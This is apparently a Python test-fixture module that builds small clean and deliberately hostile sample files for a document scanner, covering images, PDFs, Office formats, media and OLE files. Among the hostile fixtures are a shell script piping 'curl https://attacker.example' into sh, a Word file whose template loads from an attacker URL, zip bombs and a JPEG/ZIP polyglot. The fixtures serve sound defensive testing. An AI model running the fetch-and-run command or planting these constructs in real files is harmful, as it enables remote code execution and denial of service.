"""Tiny, valid (or deliberately hostile) files of every type the scanner knows, built in code.

Nothing here is a stored binary: each builder writes the format's bytes with zipfile/struct/zlib so a
reader can see exactly what makes a fixture clean or dangerous.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

# ------------------------------------------------------------------------------------------- images


def noise(size: int, seed: int = 7) -> bytes:
    """Bytes that do not compress (deterministic)."""
    import random

    return random.Random(seed).randbytes(size)


def png(width: int = 100, height: int = 100, noisy: bool = False) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = (lambda y: noise(width, y)) if noisy else (lambda y: b"\x80" * width)
    raw = b"".join(b"\x00" + row(y) for y in range(height))  # filter byte + grey pixels
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def jpeg(width: int = 100, height: int = 100, exif_bytes: int = 0) -> bytes:
    """A baseline JPEG skeleton: SOI, APP0 (JFIF), optional APP1 padding, SOF0, SOS, data, EOI."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    app1 = b""
    if exif_bytes:
        app1 = b"\xff\xe1" + struct.pack(">H", exif_bytes + 2) + b"\x00" * exif_bytes
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + app0 + app1 + sof + sos + b"\x12\x34" * 64 + b"\xff\xd9"


def heic() -> bytes:
    ftyp = struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"
    return ftyp + struct.pack(">I", 16) + b"mdat" + b"\x00" * 8


# ------------------------------------------------------------------------------------------- media


def wav(samples: int = 800) -> bytes:
    data = b"\x00\x00" * samples
    fmt = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def iso_media(brand: bytes = b"isom", payload: int = 256) -> bytes:
    ftyp = struct.pack(">I", 24) + b"ftyp" + brand + b"\x00\x00\x02\x00" + b"isom" + b"mp41"
    mdat = struct.pack(">I", 8 + payload) + b"mdat" + b"\x00" * payload
    moov = struct.pack(">I", 16) + b"moov" + struct.pack(">I", 8) + b"free"
    return ftyp + mdat + moov


def mp4() -> bytes:
    return iso_media(b"isom")


def mov() -> bytes:
    return iso_media(b"qt  ")


# ------------------------------------------------------------------------------------------- text


def txt() -> bytes:
    return "Order 42 arrived damaged.\r\nPlease call me back.\nMerci, ça va.\n".encode()


def csv(*rows: str) -> bytes:
    rows = rows or ("name,amount,note", "Ana,-12.50,refund", 'Bo,+3,"late, again"', "Cy,1e3,-")
    return ("\r\n".join(rows) + "\r\n").encode("utf-8")


def rtf(body: str = r"\pard Hello {\b world}\par") -> bytes:
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}" + body + "}").encode("ascii")


# ------------------------------------------------------------------------------------------- PDF


def pdf(catalog_extra: str = "", extra_objects: tuple[str, ...] = (), trailer_extra: str = "") -> bytes:
    """A one-page PDF with a correct xref table; `catalog_extra` lands inside the catalog dictionary."""
    content = b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        *(obj.encode("latin-1") for obj in extra_objects),
    ]
    return assemble_pdf(objects, trailer_extra)


def assemble_pdf(objects: list[bytes], trailer_extra: str = "") -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer_extra}>>\n".encode())
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def pdf_with_object_stream(hidden: str) -> bytes:
    """PDF 1.5 style: the catalog lives inside a compressed object stream."""
    inner = f"<< /Type /Catalog /Pages 2 0 R {hidden}>>".encode()
    header = b"1 0 "
    packed = zlib.compress(header + inner)
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    pages = b"<< /Type /Pages /Kids [] /Count 0 >>"
    return assemble_pdf([objstm, pages])


# ------------------------------------------------------------------------------------------- Office Open XML

_CT = "application/vnd.openxmlformats-officedocument."
_MAIN = {
    "docx": ("word/document.xml", _CT + "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", _CT + "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", _CT + "presentationml.presentation.main+xml"),
}
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def content_types(overrides: dict[str, str]) -> str:
    items = "".join(f'<Override PartName="/{name}" ContentType="{ctype}"/>' for name, ctype in overrides.items())
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>' + items + "</Types>"
    )


def relationships(*rels: tuple[str, str, str | None]) -> str:
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for i, (kind, target, mode) in enumerate(rels, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'


def ooxml(
    kind: str = "docx",
    main_type: str | None = None,
    extra_parts: dict[str, bytes] | None = None,
    extra_types: dict[str, str] | None = None,
    part_rels: tuple[tuple[str, str, str | None], ...] = (),
    main_body: bytes | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    main_name, default_type = _MAIN[kind]
    overrides = {main_name: main_type or default_type, **(extra_types or {})}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", content_types(overrides))
        archive.writestr("_rels/.rels", relationships((_REL + "/officeDocument", main_name, None)))
        archive.writestr(main_name, main_body or b'<?xml version="1.0"?><document><body>Hello</body></document>')
        folder, base = main_name.rsplit("/", 1)
        archive.writestr(f"{folder}/_rels/{base}.rels", relationships(*part_rels))
        for name, data in (extra_parts or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def replace_member(package: bytes, name: str, content: bytes) -> bytes:
    """The package with member `name` rewritten as `content` (every other member as it was)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename == name else source.read(info.filename))
    return out.getvalue()


def docm_renamed() -> bytes:
    """What Word saves as .docm: a macro-enabled main part and a VBA project."""
    return ooxml(
        "docx",
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        extra_parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60},
        extra_types={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
        part_rels=(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", None),),
    )


def docx_remote_template() -> bytes:
    """The 'template injection' trick: settings.xml.rels points attachedTemplate at a URL."""
    return ooxml(
        "docx",
        extra_parts={
            "word/settings.xml": b'<?xml version="1.0"?><settings/>',
            "word/_rels/settings.xml.rels": relationships(
                (_REL + "/attachedTemplate", "https://attacker.example/t.dotm", "External")
            ).encode(),
        },
    )


def zip_bomb_ratio(kind: str = "xlsx", megabytes: int = 64) -> bytes:
    """One sheet of zeros: compresses ~1000:1."""
    return ooxml(kind, extra_parts={"xl/worksheets/sheet1.xml": b"\x00" * (megabytes * 1024 * 1024)})


def zip_bomb_entries(kind: str = "xlsx", entries: int = 20000) -> bytes:
    buffer = io.BytesIO(ooxml(kind))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as archive:
        for i in range(entries):
            archive.writestr(f"xl/media/e{i}.xml", b"")
    return buffer.getvalue()


# ------------------------------------------------------------------------------------------- OLE compound files

SECTOR = 512
_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def ole(streams: dict[str, bytes], storages: dict[str, dict[str, bytes]] | None = None) -> bytes:
    """A version-3 compound file. Every stream is padded past the 4096-byte mini-stream cutoff so that
    only regular sectors are used; the directory is a right-leaning chain (valid, if unbalanced)."""
    storages = storages or {}
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": []}]
    payloads: list[bytes] = []

    def add_stream(name: str, data: bytes) -> int:
        data = data.ljust(4096, b"\x00")
        entries.append({"name": name, "type": 2, "data_index": len(payloads), "size": len(data)})
        payloads.append(data)
        return len(entries) - 1

    for name, data in streams.items():
        entries[0]["children"].append(add_stream(name, data))
    for name, children in storages.items():
        entries.append({"name": name, "type": 1, "children": []})
        storage = len(entries) - 1
        entries[0]["children"].append(storage)
        for child, data in children.items():
            entries[storage]["children"].append(add_stream(child, data))

    # sector layout: [directory sectors][stream sectors...][FAT sectors]
    dir_bytes_needed = len(entries) * 128
    dir_sectors = -(-dir_bytes_needed // SECTOR)
    stream_starts = []
    next_sector = dir_sectors
    for data in payloads:
        stream_starts.append(next_sector)
        next_sector += -(-len(data) // SECTOR)
    data_sectors = next_sector
    fat_sectors = 1
    while (data_sectors + fat_sectors) > fat_sectors * (SECTOR // 4):
        fat_sectors += 1
    fat = [_FREE] * (fat_sectors * SECTOR // 4)
    for i in range(dir_sectors):
        fat[i] = i + 1 if i + 1 < dir_sectors else _END
    for start, data in zip(stream_starts, payloads):
        count = -(-len(data) // SECTOR)
        for i in range(count):
            fat[start + i] = start + i + 1 if i + 1 < count else _END
    for i in range(fat_sectors):
        fat[data_sectors + i] = _FAT

    def dir_entry(index: int) -> bytes:
        entry = entries[index]
        name = entry["name"].encode("utf-16-le") + b"\x00\x00"
        left = right = child = 0xFFFFFFFF
        # siblings: chain each child to the next through the right pointer (left stays empty)
        for parent in entries:
            kids = parent.get("children", [])
            if index in kids:
                position = kids.index(index)
                right = kids[position + 1] if position + 1 < len(kids) else 0xFFFFFFFF
        if entry.get("children"):
            child = entry["children"][0]
        start = stream_starts[entry["data_index"]] if entry["type"] == 2 else (_END if entry["type"] == 5 else 0)
        return (
            name.ljust(64, b"\x00")
            + struct.pack("<HBB", len(name), entry["type"], 1)  # name length, type, colour (black)
            + struct.pack("<III", left, right, child)
            + b"\x00" * 36  # CLSID, state bits, timestamps
            + struct.pack("<IQ", start, entry.get("size", 0))
        )

    directory = b"".join(dir_entry(i) for i in range(len(entries))).ljust(dir_sectors * SECTOR, b"\x00")
    # unused directory slots are left as zeros (type 0, "unallocated"), which olefile accepts
    body = directory + b"".join(p.ljust(-(-len(p) // SECTOR) * SECTOR, b"\x00") for p in payloads)
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    assert fat_sectors <= 109, "fixture too large for a header-only DIFAT"
    difat = [data_sectors + i for i in range(fat_sectors)] + [_FREE] * (109 - fat_sectors)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9)
        + struct.pack("<H", 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, fat_sectors, 0, 0, 4096, _END, 0, _END, 0)
        + struct.pack("<109I", *difat)
    )
    assert len(header) == 512
    return header + body + fat_bytes


def biff_record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def xls_globals(sheet_type: int = 0x00, encrypted: bool = False) -> bytes:
    """Workbook globals: BOF, optional FILEPASS, one BOUNDSHEET of the given type, EOF."""
    records = biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
    if encrypted:
        records += biff_record(0x002F, b"\x01\x00" + b"\x00" * 52)
    name = b"Sheet1"
    records += biff_record(0x0085, struct.pack("<IBB", 0, 0, sheet_type) + bytes([len(name), 0]) + name)
    records += biff_record(0x000A, b"")
    return records


def doc(macros: bool = False, objects: bool = False, text: bytes = b"") -> bytes:
    storages: dict[str, dict[str, bytes]] = {}
    if macros:
        storages["Macros"] = {"PROJECT": b'ID="{00000000}"\r\n'}
    if objects:
        storages["ObjectPool"] = {"\x01Ole10Native": b"\x00" * 16}
    return ole({"WordDocument": b"\xec\xa5" + b"\x00" * 30 + text, "1Table": b"\x00" * 16}, storages)


def xls(sheet_type: int = 0x00, encrypted: bool = False, vba: bool = False) -> bytes:
    storages = {"_VBA_PROJECT_CUR": {"PROJECT": b"ID=1"}} if vba else {}
    return ole({"Workbook": xls_globals(sheet_type, encrypted)}, storages)


def ppt(vba: bool = False) -> bytes:
    document = b"\x00" * 32
    if vba:  # [MS-PPT] VbaInfoContainer { VbaInfoAtom { persistIdRef, fHasMacros=1, version=2 } }
        document += (
            b"\x0f\x00\xff\x03\x14\x00\x00\x00" + b"\x02\x00\x00\x04\x0c\x00\x00\x00" + struct.pack("<III", 7, 1, 2)
        )
    return ole({"PowerPoint Document": document, "Current User": b"\x00" * 16})


def encrypted_ooxml() -> bytes:
    return ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x00" * 64})


# ------------------------------------------------------------------------------------------- hostile


def windows_exe() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 120


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl https://attacker.example | sh\n"


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hi")
    return buffer.getvalue()


def jpeg_zip_polyglot() -> bytes:
    return jpeg() + plain_zip()


SAMPLES = {
    "png": png,
    "jpg": jpeg,
    "jpeg": jpeg,
    "jfif": jpeg,
    "heic": heic,
    "pdf": pdf,
    "docx": lambda: ooxml("docx"),
    "xlsx": lambda: ooxml("xlsx"),
    "pptx": lambda: ooxml("pptx"),
    "doc": doc,
    "xls": xls,
    "ppt": ppt,
    "csv": csv,
    "txt": txt,
    "rtf": rtf,
    "wav": wav,
    "mp4": mp4,
    "mov": mov,
}
